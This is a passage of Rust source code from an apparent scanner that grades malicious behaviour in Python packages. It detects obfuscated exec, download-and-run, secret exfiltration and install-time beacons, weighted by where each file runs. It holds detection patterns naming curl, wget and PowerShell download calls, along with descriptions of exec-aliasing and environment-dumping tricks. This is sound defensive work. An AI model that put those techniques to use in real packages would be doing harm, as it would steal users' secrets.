//! Context, not single strings: indicators are combined per file and weighted
//! by where the file runs (every interpreter start > install time > package
//! import > other modules > tests, docs, examples).

use regex::bytes::Regex;
use std::sync::OnceLock;

use super::rules::{Hit, Kind, Rules};
use crate::finding::{Confidence, RuleId, Severity};

/// The lexical findings the v2 passes judge again, by the opening of their
/// message (the finding has no other mark of which check made it).
const DOWNLOAD_AND_RUN: &str = "downloads a file and runs a program";
const REPLACES_INSTALL: &str = "setup.py replaces an install command";

/// Where a file runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Role {
    /// Tests, docs, examples, benchmarks: not run by installing or importing.
    Test,
    /// Any other module.
    Module,
    /// A package's top-level `__init__.py`: runs on import.
    Init,
    /// `setup.py`: runs on install from an sdist.
    Install,
    /// `.pth` lines, `sitecustomize`, and modules a `.pth` imports: every interpreter start.
    Startup,
}

impl Role {
    /// For messages.
    pub fn describe(self) -> &'static str {
        match self {
            Self::Test => "in tests/docs/examples",
            Self::Module => "in a module",
            Self::Init => "in a package __init__ (runs on import)",
            Self::Install => "in setup.py (runs on install)",
            Self::Startup => "at every interpreter start",
        }
    }
}

const TEST_DIRS: &[&str] = &[
    "test",
    "tests",
    "testing",
    "docs",
    "doc",
    "examples",
    "example",
    "benchmarks",
    "bench",
    "demo",
    "demos",
    "samples",
    // CI configuration and helpers of the source tree.
    ".github",
    ".circleci",
    ".gitlab",
    ".azure-pipelines",
];

/// The role of a member path. `root` is the sdist's top directory (stripped).
pub fn role(path: &str, startup_modules: &[String]) -> Role {
    let p = path.replace('\\', "/");
    let parts: Vec<&str> = p
        .split('/')
        .filter(|c| !c.is_empty() && *c != ".")
        .collect();
    let name = parts.last().copied().unwrap_or("");
    let lower = name.to_ascii_lowercase();
    let dirs = &parts[..parts.len().saturating_sub(1)];
    let in_tests = dirs
        .iter()
        .any(|d| TEST_DIRS.contains(&d.to_ascii_lowercase().as_str()));
    // A startup file in tests or docs is never installed where `site` reads it.
    if (lower.ends_with(".pth") || lower == "sitecustomize.py" || lower == "usercustomize.py")
        && !in_tests
    {
        return Role::Startup;
    }
    if let Some(stem) = lower.strip_suffix(".py")
        && startup_modules.iter().any(|m| m == stem)
        && parts.len() <= 2
    {
        return Role::Startup;
    }
    if lower == "setup.py" && parts.len() <= 2 {
        return Role::Install;
    }
    if in_tests
        || lower.starts_with("test_")
        || lower == "tests.py"
        || lower == "test.py"
        || lower.ends_with("_test.py")
        || lower == "conftest.py"
    {
        return Role::Test;
    }
    if lower == "__init__.py" && parts.len() <= 3 {
        return Role::Init;
    }
    Role::Module
}

/// One finding inside an archive member.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct MemberFinding {
    /// The rule.
    pub rule: RuleId,
    /// How bad.
    pub severity: Severity,
    /// How sure.
    pub confidence: Confidence,
    /// 1-based line in the member.
    pub line: Option<u32>,
    /// For people.
    pub message: String,
    /// (label, value) pairs: source, sink, snippet, indicator ids.
    pub evidence: Vec<(String, String)>,
}

fn snippet(text: &[u8], offset: usize) -> String {
    let start = text[..offset.min(text.len())]
        .iter()
        .rposition(|b| *b == b'\n')
        .map_or(0, |p| p + 1);
    let end = text[offset.min(text.len())..]
        .iter()
        .position(|b| *b == b'\n')
        .map_or(text.len(), |p| offset + p);
    let line = String::from_utf8_lossy(&text[start..end]);
    let t = line.trim();
    if t.chars().count() > 160 {
        format!("{}…", t.chars().take(160).collect::<String>())
    } else {
        t.to_string()
    }
}

fn alias_exec() -> Option<&'static Regex> {
    static R: OnceLock<Option<Regex>> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r"(?-u)(?m)^\s*([A-Za-z_]\w*)\s*=\s*(?:exec|eval|builtins\.exec|__builtins__\.exec)\s*$|from\s+builtins\s+import\s+(?:exec|eval)\s+as\s+([A-Za-z_]\w*)").ok()
    })
    .as_ref()
}

/// Whether [`alias_exec`] can match: `builtins` is named, or a line ends
/// in `exec` or `eval` (the expression has no literal prefix, so it is
/// asked only then).
fn may_alias_exec(text: &[u8]) -> bool {
    if memchr::memmem::find(text, b"builtins").is_some() {
        return true;
    }
    [&b"exec"[..], b"eval"].iter().any(|word| {
        memchr::memmem::find_iter(text, word).any(|at| {
            text[at + word.len()..]
                .iter()
                .take_while(|b| **b != b'\n')
                .all(u8::is_ascii_whitespace)
        })
    })
}

/// The 1-based line of a byte offset.
fn line_at(text: &[u8], offset: usize) -> u32 {
    let n = text[..offset.min(text.len())]
        .iter()
        .filter(|b| **b == b'\n')
        .count()
        + 1;
    u32::try_from(n).unwrap_or(u32::MAX)
}

fn os_environ_alias() -> Option<&'static Regex> {
    static R: OnceLock<Option<Regex>> = OnceLock::new();
    R.get_or_init(|| Regex::new(r"(?-u)\bfrom\s+os\s+import\s+[^\n]*\benviron\b").ok())
        .as_ref()
}

fn bare_environ_dump() -> Option<&'static Regex> {
    static R: OnceLock<Option<Regex>> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r"(?-u)(?:dict|str|repr|json\.dumps|list)\(\s*environ\b|(?:^|[^.\w])environ\.(?:items|keys|values)\(\)").ok()
    })
    .as_ref()
}

/// Lines of long base64/hex blobs and of code hidden after long runs of spaces.
fn blobs_and_hidden(text: &[u8]) -> (Vec<u32>, Vec<u32>) {
    let mut blobs = Vec::new();
    let mut hidden = Vec::new();
    let mut start = 0;
    for (n, line_end) in memchr::memchr_iter(b'\n', text)
        .chain(std::iter::once(text.len()))
        .enumerate()
    {
        let line = &text[start..line_end];
        start = line_end + 1;
        // Both need a run of 150 bytes or more: most lines are shorter.
        if line.len() < 150 {
            continue;
        }
        let line_no = u32::try_from(n + 1).unwrap_or(u32::MAX);
        let (mut run, mut spaces, mut blob) = (0usize, 0usize, false);
        for &b in line {
            if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=' || b == b'\\' {
                run += 1;
                if run == 512 && !blob {
                    blobs.push(line_no);
                    blob = true;
                }
            } else {
                run = 0;
            }
            if b == b' ' || b == b'\t' {
                spaces += 1;
            } else {
                if spaces >= 150 && hidden.last() != Some(&line_no) {
                    hidden.push(line_no);
                }
                spaces = 0;
            }
        }
    }
    (blobs, hidden)
}

/// How many times code found hidden in code is unfolded and analysed again.
const MAX_UNFOLD: usize = 3;

/// Analyses one text member: the lexical pass, then (for Python) the code it
/// runs from folded data, reported and analysed again in the same context.
pub fn analyze(rules: &Rules, path: &str, text: &[u8], role: Role) -> Vec<MemberFinding> {
    let lower = path.to_ascii_lowercase();
    let python = lower.ends_with(".py") || lower.ends_with(".pyw");
    analyze_at(rules, path, text, role, 0, python)
}

/// Analyses a member as Python whatever its name: a file that Python code
/// runs (`exec(open('README.txt').read())`), in the role of that code.
pub fn analyze_python(rules: &Rules, path: &str, text: &[u8], role: Role) -> Vec<MemberFinding> {
    analyze_at(rules, path, text, role, 0, true)
}

fn analyze_at(
    rules: &Rules,
    path: &str,
    text: &[u8],
    role: Role,
    depth: usize,
    python: bool,
) -> Vec<MemberFinding> {
    let (mut out, gates) = lexical_gated(rules, text, role);
    // Words in comments and docstrings are not code: when the lexical pass
    // reports something in Python, it is asked again with them blanked.
    if python
        && out.iter().any(|f| f.severity >= Severity::Medium)
        && let Ok(source) = std::str::from_utf8(text)
        && let Some(code) = super::python::without_comments(source)
    {
        out = lexical(rules, code.as_bytes(), role);
    }
    if python && depth < MAX_UNFOLD {
        let want = super::python::Want {
            reach: depth == 0 && out.iter().any(|f| f.severity >= Severity::High),
            script: depth == 0 && role == Role::Install,
            beacons: matches!(role, Role::Init | Role::Startup),
            parse: out.iter().any(|f| {
                f.rule == RuleId::DownloadExec
                    && f.message.starts_with(DOWNLOAD_AND_RUN)
                    && f.severity > Severity::Low
            }),
        };
        let analysis = super::python::analyse_gated(&super::text_of(text), want, gates);
        let hosts = Hosts::new(rules, path, text);
        if analysis.parsed() && analysis.flows.is_empty() {
            no_flow_no_download_exec(&mut out);
        }
        if analysis.leaks_ran && analysis.skipped.is_none() {
            let leaks = leak_findings(&hosts, role, &analysis);
            // The flows decide: co-occurrence is kept only where the tree
            // is partial and no flow was found in what parsed.
            if !analysis.partial || !leaks.is_empty() {
                out.retain(|f| f.rule != RuleId::Exfiltration);
            }
            out.extend(leaks);
        }
        if role == Role::Install && analysis.parsed() {
            install_hook_by_calls(&mut out, &analysis.install_calls);
        }
        if analysis.parsed() {
            unresolved_lookups_are_low(&mut out, &analysis.hidden);
        }
        let reach = analysis.reach.clone();
        out.extend(v2_findings(rules, path, text, role, depth, &out, analysis));
        if depth == 0
            && let Some(r) = reach
        {
            let cappable = out.iter().any(|f| {
                f.severity > Severity::Medium
                    && f.rule != RuleId::Exfiltration
                    && f.line.is_some_and(|l| !r.unasked(l))
            });
            if cappable {
                cap_asked(&mut out, &r, hosts.in_file() == HostClass::Catcher);
            }
        }
    }
    out
}

/// The lexical guess "looks builtins up by computed names" is settled by
/// the resolve pass in a file that parses: a look-up that resolves to an
/// executor running folded data is hidden code (reported by the v2 pass);
/// one that resolves to nothing run (`globals()['__builtins__']` passed
/// around, compared, copied) is low.
fn unresolved_lookups_are_low(out: &mut [MemberFinding], hidden: &[super::python::Hidden]) {
    for f in out.iter_mut().filter(|f| {
        f.rule == RuleId::ObfuscatedExec
            && f.evidence
                .iter()
                .any(|(l, v)| l == "indicator" && v == "computed-builtin")
    }) {
        let near = |l: u32| f.line.is_some_and(|x| x.abs_diff(l) <= 2);
        if !hidden.iter().any(|h| near(h.line)) {
            f.severity = Severity::Low;
            f.confidence = Confidence::Low;
            f.message
                .push_str(", but nothing it looks up runs hidden code");
        }
    }
}

/// Severity is earned where code runs unasked: a finding in a function
/// nothing at import (or install) calls runs only when a user asks for it,
/// and is medium at most. Exfiltration flows are graded by the same fact
/// where they are made. Another file of the package that calls the
/// function on import lifts the cap again (`scan.rs`).
fn cap_asked(out: &mut [MemberFinding], reach: &super::python::Reach, catcher: bool) {
    // A file that names a receiving service (a paste or file-drop site, a
    // request catcher, a raw address) keeps what it does in any function.
    if catcher {
        return;
    }
    for f in out.iter_mut() {
        let Some(line) = f.line else { continue };
        // An executed hidden payload, and network data that reaches what
        // runs it (a flow, not two words in one file), are reported
        // wherever they are.
        let hidden = f
            .evidence
            .iter()
            .any(|(l, _)| l == "hidden-by" || l == "flow");
        if f.severity <= Severity::Medium
            || f.rule == RuleId::Exfiltration
            || hidden
            || reach.unasked(line)
        {
            continue;
        }
        let function = reach.function_at(line).unwrap_or("a function");
        f.evidence.push((
            "runs".into(),
            format!(
                "only when called: in {function}(), which nothing in this file runs on import or install"
            ),
        ));
        f.evidence
            .push(("asked-in".into(), reach.callers(line).join(",")));
        f.evidence
            .push(("capped-from".into(), f.severity.as_str().to_string()));
        f.severity = Severity::Medium;
    }
}

/// setup.py replacing an install command is judged by what the command
/// runs: the calls in its methods and in what they call. A command that
/// starts no program, fetches nothing and executes no code (words in its
/// strings do not count) is low.
fn install_hook_by_calls(out: &mut [MemberFinding], calls: &[(u32, String, bool)]) {
    let act = super::python::first_act(calls);
    for f in out
        .iter_mut()
        .filter(|f| f.rule == RuleId::InstallHook && f.message.starts_with(REPLACES_INSTALL))
    {
        match act {
            Some((line, q)) => {
                f.evidence
                    .push(("install-runs".into(), format!("{q} at line {line}")));
            }
            None => {
                f.severity = Severity::Low;
                f.confidence = Confidence::Medium;
                f.message = format!(
                    "{REPLACES_INSTALL}; what runs on install starts no program, fetches nothing and executes no code"
                );
            }
        }
    }
}

/// The names a Python file calls in code that runs on import or install, as
/// far as a line tells: every call in `setup.py`; calls on top-level lines
/// (not indented) of other files. Another file's function of that name
/// runs unasked too (`from .core import run; run()` in `__init__.py`).
pub fn unasked_call_names(text: &[u8], role: Role) -> Vec<String> {
    if role == Role::Test {
        return Vec::new();
    }
    let mut out = Vec::new();
    for line in text.split(|b| *b == b'\n') {
        let top = line.first().is_some_and(|b| !b.is_ascii_whitespace());
        if !(top || role == Role::Install)
            || line.starts_with(b"def ")
            || line.starts_with(b"class ")
            || line.starts_with(b"#")
        {
            continue;
        }
        out.extend(called_names(line).take(16));
        if out.len() > 4096 {
            break;
        }
    }
    out.sort();
    out.dedup();
    out
}

/// The names called in a line (`name(` or `name (`), in order: the last
/// word of every run of word characters followed by an opening parenthesis,
/// without its leading digits.
fn called_names(line: &[u8]) -> impl Iterator<Item = String> + '_ {
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < line.len() {
            if !word(line[i]) {
                i += 1;
                continue;
            }
            let start = i;
            while i < line.len() && word(line[i]) {
                i += 1;
            }
            let end = i;
            let mut j = i;
            while j < line.len() && line[j].is_ascii_whitespace() {
                j += 1;
            }
            if line.get(j) != Some(&b'(') {
                continue;
            }
            let name = &line[start..end];
            let name = &name[name.iter().take_while(|b| b.is_ascii_digit()).count()..];
            if !name.is_empty() {
                return Some(String::from_utf8_lossy(name).into_owned());
            }
        }
        None
    })
}

/// The modules a Python file imports, by their last component
/// (`from .core import run` -> `core`; `import a.b as c` -> `b`).
pub fn imported_stems(text: &[u8]) -> Vec<String> {
    let word = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'.';
    let blank = |b: &u8| *b == b' ' || *b == b'\t';
    let mut out = Vec::new();
    for line in text.split(|b| *b == b'\n') {
        let line = &line[line.iter().take_while(|b| blank(b)).count()..];
        let (rest, from) = if let Some(r) = line.strip_prefix(b"from") {
            (r, true)
        } else if let Some(r) = line.strip_prefix(b"import") {
            (r, false)
        } else {
            continue;
        };
        let gap = rest.iter().take_while(|b| blank(b)).count();
        let name_len = rest[gap..].iter().take_while(|b| word(b)).count();
        if gap == 0 || name_len == 0 {
            continue;
        }
        let name = &rest[gap..gap + name_len];
        if from {
            let after = &rest[gap + name_len..];
            let gap2 = after.iter().take_while(|b| blank(b)).count();
            if gap2 == 0 || !after[gap2..].starts_with(b"import") {
                continue;
            }
        }
        let name = String::from_utf8_lossy(name);
        if let Some(stem) = name.rsplit('.').find(|p| !p.is_empty()) {
            out.push(stem.to_string());
        }
        if out.len() >= 4096 {
            break;
        }
    }
    out.sort();
    out.dedup();
    out
}

/// The name a module is imported by: its file stem, or its package's name
/// for an `__init__.py`.
fn module_stem(path: &str) -> &str {
    let mut parts = path.rsplit('/');
    let file = parts.next().unwrap_or(path);
    match file.strip_suffix(".py") {
        Some("__init__") => parts.next().unwrap_or(""),
        Some(stem) => stem,
        None => file,
    }
}

/// Findings capped because their function runs only when called, whose
/// function another file of the package calls on import or install (a file
/// that imports the finding's module and calls the function at its top
/// level): the cap is lifted and the evidence says so.
pub fn uncap_called(
    findings: &mut [(Option<String>, MemberFinding)],
    called: &std::collections::HashMap<String, std::collections::HashSet<String>>,
) {
    for (path, f) in findings.iter_mut() {
        let stem = path.as_deref().map(module_stem).unwrap_or("");
        let asked = f
            .evidence
            .iter()
            .find(|(l, _)| l == "asked-in")
            .map(|(_, v)| v.clone());
        let capped = f
            .evidence
            .iter()
            .find(|(l, _)| l == "capped-from")
            .and_then(|(_, v)| v.parse::<Severity>().ok());
        let (Some(asked), Some(severity)) = (asked, capped) else {
            continue;
        };
        let Some(function) = asked
            .split(',')
            .find(|f| called.get(*f).is_some_and(|mods| mods.contains(stem)))
        else {
            continue;
        };
        f.severity = f.severity.max(severity);
        f.evidence
            .retain(|(l, _)| l != "capped-from" && l != "runs");
        f.evidence.push((
            "runs".into(),
            format!(
                "on import or install: a file of the package calls {function}() at its top level"
            ),
        ));
    }
}

/// Where a receiving host is, as far as the file says.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum HostClass {
    /// This machine: not a way out.
    Local,
    /// A paste or file-drop site, tunnel, request catcher, out-of-band
    /// testing domain, or a raw IP address: nothing an honest package
    /// ships code to send to.
    Catcher,
    /// A chat webhook or bot API: notifiers use them too.
    Chat,
    /// A what-is-my-address service: network tools use them too.
    Lookup,
    /// A host of the package's own project (its name in the domain).
    Own,
    /// Another host, spelled in the file.
    Named,
    /// Not in the file: configuration or an argument.
    Unknown,
}

/// The package's name, from the member path's first component
/// (`openai-2.1.0/src/...` or `openai/...`), normalised.
pub fn project_tokens(path: &str) -> Vec<String> {
    let first = path.split('/').next().unwrap_or("");
    let name = match first.rfind('-') {
        Some(i) if first[i + 1..].starts_with(|c: char| c.is_ascii_digit()) => &first[..i],
        _ => first,
    };
    let norm = |s: &str| {
        s.chars()
            .filter(char::is_ascii_alphanumeric)
            .collect::<String>()
            .to_ascii_lowercase()
    };
    let mut out = vec![norm(name)];
    if let Some(head) = name.split(['-', '_', '.']).next()
        && head.len() >= 4
    {
        out.push(norm(head));
    }
    out.retain(|t| t.len() >= 3);
    out.dedup();
    out
}

/// Classifies the receiving hosts of one file: the endpoint indicator is
/// found once, the project's name derived once, and the file's own text
/// scanned for a receiving service at most once, however many flows ask.
struct Hosts<'a> {
    endpoint: Option<&'a super::rules::Indicator>,
    project: Vec<String>,
    text: &'a [u8],
    in_file: std::cell::OnceCell<HostClass>,
}

impl<'a> Hosts<'a> {
    fn new(rules: &'a Rules, path: &str, text: &'a [u8]) -> Self {
        Self {
            endpoint: rules.indicators.iter().find(|i| i.id == "exfil-endpoint"),
            project: project_tokens(path),
            text,
            in_file: std::cell::OnceCell::new(),
        }
    }

    /// The receiving service `hay` names, if any.
    fn service(&self, hay: &[u8]) -> Option<HostClass> {
        self.endpoint.and_then(|e| e.regex.find(hay)).map(|m| {
            let m = String::from_utf8_lossy(m.as_bytes()).to_ascii_lowercase();
            if m.contains("attachments") {
                HostClass::Catcher
            } else if m.contains("discord") || m.contains("telegram") {
                HostClass::Chat
            } else if m.contains("ipify") || m.contains("ipinfo") {
                HostClass::Lookup
            } else {
                HostClass::Catcher
            }
        })
    }

    /// What the file names anywhere: the host of a flow whose host the
    /// file does not spell.
    fn in_file(&self) -> HostClass {
        *self
            .in_file
            .get_or_init(|| self.service(self.text).unwrap_or(HostClass::Unknown))
    }

    fn class(&self, host: Option<&str>) -> HostClass {
        let Some(h) = host else {
            return self.in_file();
        };
        if super::python::is_local_host(h) {
            return HostClass::Local;
        }
        if let Some(class) = self.service(h.as_bytes()) {
            return class;
        }
        let domain = h
            .split("://")
            .nth(1)
            .unwrap_or(h)
            .split(['/', ':', '?'])
            .next()
            .unwrap_or("")
            .to_ascii_lowercase()
            .replace('-', "");
        // A raw address: nobody's published service.
        if domain.parse::<std::net::Ipv4Addr>().is_ok() {
            return HostClass::Catcher;
        }
        // The registered name, not a subdomain: `pkg.attacker.example` is the
        // attacker's host with the package's name in front.
        let labels: Vec<&str> = domain.split('.').filter(|l| !l.is_empty()).collect();
        let registered = match labels.as_slice() {
            [.., name, sld, _tld]
                if ["co", "com", "org", "net", "ac", "gov", "edu"].contains(sld) =>
            {
                Some(*name)
            }
            [.., name, _tld] => Some(*name),
            _ => None,
        };
        if let Some(name) = registered
            && self.project.iter().any(|t| name.contains(t.as_str()))
        {
            return HostClass::Own;
        }
        HostClass::Named
    }
}

/// Exfiltration from the flows: data of a source that reaches a sink,
/// graded by what the data is, where it goes, and whether the code runs
/// without being asked. One finding per file: the worst flow, with the
/// others' lines.
fn leak_findings(hosts: &Hosts, role: Role, a: &super::python::Analysis) -> Vec<MemberFinding> {
    use super::python::SourceKind;
    // Tests, docs and examples send what they like where they like.
    if role == Role::Test {
        return Vec::new();
    }
    let mut graded: Vec<(Severity, MemberFinding)> = Vec::new();
    let mut out = beacon_findings(hosts, role, a);
    for leak in a.leaks.iter().filter(|l| !l.sources.is_empty()) {
        let host = hosts.class(leak.host.as_deref());
        if host == HostClass::Local {
            continue;
        }
        let secrets = leak
            .sources
            .iter()
            .filter(|s| s.kind == SourceKind::Secret)
            .count();
        let strong = secrets >= 3 || leak.sources.iter().any(|s| s.kind.strong());
        let service = matches!(host, HostClass::Catcher | HostClass::Chat);
        // Browser, chat and wallet stores leave only for a stealer: their
        // data, or any data from a file that reads them, sent to a host that
        // is not the project's.
        let direct_store = leak.sources.iter().any(|s| s.kind == SourceKind::Store);
        let context_store = a.store.as_ref().filter(|_| {
            !direct_store
                && matches!(
                    host,
                    HostClass::Catcher | HostClass::Chat | HostClass::Named
                )
        });
        let store = (direct_store && !matches!(host, HostClass::Own)) || context_store.is_some();
        let strong = strong || store;
        let unasked = a.reach.as_ref().is_none_or(|r| r.unasked(leak.line));
        let hot = matches!(role, Role::Startup | Role::Install | Role::Init);
        let when_run = match (hot, strong || service) {
            (true, true) => Severity::Critical,
            (true, false) | (false, true) => Severity::High,
            (false, false) => Severity::Medium,
        };
        let severity = if unasked {
            when_run
        } else if host == HostClass::Catcher || store || (strong && service) {
            Severity::High
        } else if (strong && host != HostClass::Own) || service {
            Severity::Medium
        } else {
            Severity::Low
        };
        let mut kinds: Vec<SourceKind> = leak.sources.iter().map(|s| s.kind).collect();
        kinds.sort();
        kinds.dedup();
        let what = kinds
            .iter()
            .map(|k| k.describe())
            .collect::<Vec<_>>()
            .join(", ");
        let to = match host {
            HostClass::Catcher => "a receiving service",
            HostClass::Chat => "a chat bot or webhook",
            HostClass::Own => "the project's own host",
            HostClass::Named | HostClass::Lookup => "a host named in the file",
            HostClass::Unknown => "a host from configuration or an argument",
            HostClass::Local => "this machine",
        };
        let runs = match a.reach.as_ref().and_then(|r| r.function_at(leak.line)) {
            Some(f) if unasked => {
                format!("at import or install: {f}() is called from the top level")
            }
            Some(f) => format!(
                "only when called: {f}(), which nothing in this file runs on import or install"
            ),
            None => "at import or install: module top level".into(),
        };
        let mut evidence: Vec<(String, String)> = leak
            .sources
            .iter()
            .take(4)
            .map(|s| {
                (
                    "source".to_string(),
                    format!("{} `{}` at line {}", s.kind.describe(), s.what, s.line),
                )
            })
            .collect();
        evidence.push((
            "sink".into(),
            format!("{} ({}) at line {}", leak.sink, leak.sink_kind, leak.line),
        ));
        evidence.push((
            "host".into(),
            match &leak.host {
                Some(h) => format!("{}: {to}", h.chars().take(120).collect::<String>()),
                None => to.to_string(),
            },
        ));
        // `runs` marks what runs only when asked (a release diff does not
        // raise it); what runs unasked says where.
        evidence.push((if unasked { "where" } else { "runs" }.into(), runs));
        if let Some(s) = context_store {
            evidence.push((
                "context".into(),
                format!(
                    "the file also reads {} `{}` at line {}",
                    s.kind.describe(),
                    s.what,
                    s.line
                ),
            ));
        }
        if let Some(r) = a.reach.as_ref()
            && !unasked
            && when_run > severity
        {
            evidence.push(("asked-in".into(), r.callers(leak.line).join(",")));
            evidence.push(("capped-from".into(), when_run.as_str().to_string()));
        }
        graded.push((
            severity,
            MemberFinding {
                rule: RuleId::Exfiltration,
                severity,
                confidence: if strong || service {
                    Confidence::High
                } else {
                    Confidence::Medium
                },
                line: Some(leak.line),
                message: format!("sends {what} to {to} ({}) {}", leak.sink, role.describe()),
                evidence,
            },
        ));
    }
    graded.sort_by(|x, y| y.0.cmp(&x.0).then(x.1.line.cmp(&y.1.line)));
    let others: Vec<String> = graded
        .iter()
        .skip(1)
        .filter_map(|(_, f)| f.line.map(|l| l.to_string()))
        .collect();
    let Some((_, mut worst)) = graded.into_iter().next() else {
        return out;
    };
    if !others.is_empty() {
        worst
            .evidence
            .push(("other-flows".into(), format!("lines {}", others.join(", "))));
    }
    out.push(worst);
    out
}

/// A package's `__init__` or a startup file that, as it runs, contacts a
/// host spelled in the file that is not the project's: a beacon that the
/// package was installed and imported (the dependency-confusion probe).
/// It carries no data, so it is a suspicious endpoint, not exfiltration.
fn beacon_findings(hosts: &Hosts, role: Role, a: &super::python::Analysis) -> Vec<MemberFinding> {
    if !matches!(role, Role::Init | Role::Startup) {
        return Vec::new();
    }
    for b in a.leaks.iter().filter(|l| l.sources.is_empty()) {
        let unasked = a.reach.as_ref().is_none_or(|r| r.unasked(b.line));
        let host = hosts.class(b.host.as_deref());
        if !unasked
            || !matches!(
                host,
                HostClass::Named | HostClass::Catcher | HostClass::Chat
            )
        {
            continue;
        }
        let shown: String = b.host.as_deref().unwrap_or("").chars().take(120).collect();
        return vec![MemberFinding {
            rule: RuleId::SuspiciousEndpoint,
            severity: Severity::High,
            confidence: Confidence::Medium,
            line: Some(b.line),
            message: format!(
                "contacts {shown} ({}) {}: a beacon that the package was installed",
                b.sink,
                role.describe()
            ),
            evidence: vec![
                (
                    "sink".into(),
                    format!("{} ({}) at line {}", b.sink, b.sink_kind, b.line),
                ),
                ("host".into(), shown),
                (
                    "where".into(),
                    "at import, carrying no data but the import itself".into(),
                ),
            ],
        }];
    }
    Vec::new()
}

/// A file that parses, fetches with Python's own clients and starts a
/// program, but runs nothing it fetched (no flow), is a build script or a
/// tool, not a dropper: the co-occurrence finding drops to low. A download
/// spelled in a command line (curl, wget, PowerShell) is not seen by the
/// flows pass and keeps its severity.
fn no_flow_no_download_exec(out: &mut [MemberFinding]) {
    for f in out
        .iter_mut()
        .filter(|f| f.rule == RuleId::DownloadExec && f.message.starts_with(DOWNLOAD_AND_RUN))
    {
        let shell = f.evidence.iter().any(|(label, value)| {
            label == "download"
                && ["wget", "curl", "Invoke-WebRequest", "DownloadFile"]
                    .iter()
                    .any(|w| value.contains(w))
        });
        if !shell && f.severity > Severity::Low {
            f.severity = Severity::Low;
            f.confidence = Confidence::Low;
            f.message
                .push_str(", but nothing it downloads reaches what it runs");
        }
    }
}

/// Findings of scanner v2's passes (`super::python`): code an executor runs
/// from folded data, what that code does, and network data that reaches
/// something that runs it.
fn v2_findings(
    rules: &Rules,
    path: &str,
    text: &[u8],
    role: Role,
    depth: usize,
    already: &[MemberFinding],
    analysis: super::python::Analysis,
) -> Vec<MemberFinding> {
    let mut out = Vec::new();
    for h in analysis.hidden {
        let how = h.techniques.join(" + ");
        let shown: String = h
            .code
            .chars()
            .map(|c| if c.is_control() { ' ' } else { c })
            .take(200)
            .collect();
        // The lexical pass may have seen it (an exec near a decode).
        let reported = already.iter().chain(out.iter()).any(|f| {
            f.rule == RuleId::ObfuscatedExec && f.line.is_some_and(|l| l.abs_diff(h.line) <= 2)
        });
        if !reported {
            let severity = match role {
                Role::Test => Severity::Low,
                Role::Startup | Role::Install | Role::Init => Severity::Critical,
                Role::Module => Severity::High,
            };
            out.push(MemberFinding {
                rule: RuleId::ObfuscatedExec,
                severity,
                confidence: Confidence::High,
                line: Some(h.line),
                message: format!(
                    "runs code hidden by {how} ({}) {}",
                    h.executor.trim_start_matches("builtins."),
                    role.describe()
                ),
                evidence: vec![
                    ("executor".into(), h.executor.clone()),
                    ("hidden-by".into(), how.clone()),
                    ("decoded".into(), shown),
                ],
            });
        }
        // What the hidden code does, at the line that runs it.
        for mut f in analyze_at(rules, path, h.code.as_bytes(), role, depth + 1, true) {
            f.line = Some(h.line);
            f.message = format!("{} (in code hidden by {how})", f.message);
            f.evidence.push(("hidden-by".into(), how.clone()));
            out.push(f);
        }
    }
    // Code it writes to a file from a literal: what that code would do,
    // at the line that writes it.
    for (line, code) in &analysis.staged {
        for mut f in analyze_at(rules, path, code.as_bytes(), role, depth + 1, true) {
            f.line = Some(*line);
            f.message = format!("{} (in code it writes to a file)", f.message);
            f.evidence.push((
                "staged".into(),
                format!("code written to a file at line {line}"),
            ));
            out.push(f);
        }
    }
    for flow in analysis.flows {
        // A flow the lexical pass saw as an exec near a fetch is reported
        // once; a download and a run it saw apart are reported as the flow.
        let reported = already.iter().chain(out.iter()).any(|f| {
            f.rule == RuleId::DownloadExec
                && !f.message.starts_with(DOWNLOAD_AND_RUN)
                && f.line.is_some_and(|l| l.abs_diff(flow.line) <= 2)
        });
        if reported {
            continue;
        }
        let severity = match role {
            Role::Test => Severity::Low,
            Role::Startup | Role::Install | Role::Init => Severity::Critical,
            Role::Module => Severity::High,
        };
        let what = match flow.kind {
            "file" => "downloads a file and starts it",
            "module" => "writes code fetched from the network where Python imports or starts it",
            _ => "fetches code from the network and runs it",
        };
        out.push(MemberFinding {
            rule: RuleId::DownloadExec,
            severity,
            confidence: Confidence::High,
            line: Some(flow.line),
            message: format!(
                "{what} ({}) {}",
                flow.runner.trim_start_matches("builtins."),
                role.describe()
            ),
            evidence: vec![
                ("runner".into(), flow.runner.clone()),
                ("flow".into(), format!("network data -> {}", flow.kind)),
                ("snippet".into(), snippet_at_line(text, flow.line)),
            ],
        });
    }
    out
}

/// The lexical pass: indicators combined by file and role.
fn lexical(rules: &Rules, text: &[u8], role: Role) -> Vec<MemberFinding> {
    lexical_gated(rules, text, role).0
}

/// [`lexical`], and the gates of the Python passes found by the same pass
/// over `text`.
fn lexical_gated(
    rules: &Rules,
    text: &[u8],
    role: Role,
) -> (Vec<MemberFinding>, super::python::Gates) {
    let (mut hits, gates) = rules.scan_gated(text, 64);
    // `b = exec` ... `b(data)`: calls through an alias are exec calls.
    let aliases = may_alias_exec(text).then(alias_exec).flatten();
    for caps in aliases.into_iter().flat_map(|r| r.captures_iter(text)) {
        let Some(name) = caps.get(1).or_else(|| caps.get(2)) else {
            continue;
        };
        let name = String::from_utf8_lossy(name.as_bytes()).into_owned();
        if let Ok(call) = Regex::new(&format!(r"(?-u)\b{}\s*\(", regex::escape(&name)))
            && let Some(exec_idx) = rules.indicators.iter().position(|i| i.kind == Kind::Exec)
        {
            for m in call.find_iter(text).take(16) {
                hits.push(Hit {
                    indicator: exec_idx,
                    offset: m.start(),
                    line: line_at(text, m.start()),
                });
            }
        }
    }
    // `from os import environ` (or `getenv`, `environ as e`): bare names are the environment.
    if let Some(env_alias) = os_environ_alias()
        && env_alias.is_match(text)
        && let Some(dump) = bare_environ_dump()
        && let Some(idx) = rules.indicators.iter().position(|i| i.id == "env-dump")
    {
        for m in dump.find_iter(text).take(16) {
            hits.push(Hit {
                indicator: idx,
                offset: m.start(),
                line: line_at(text, m.start()),
            });
        }
    }
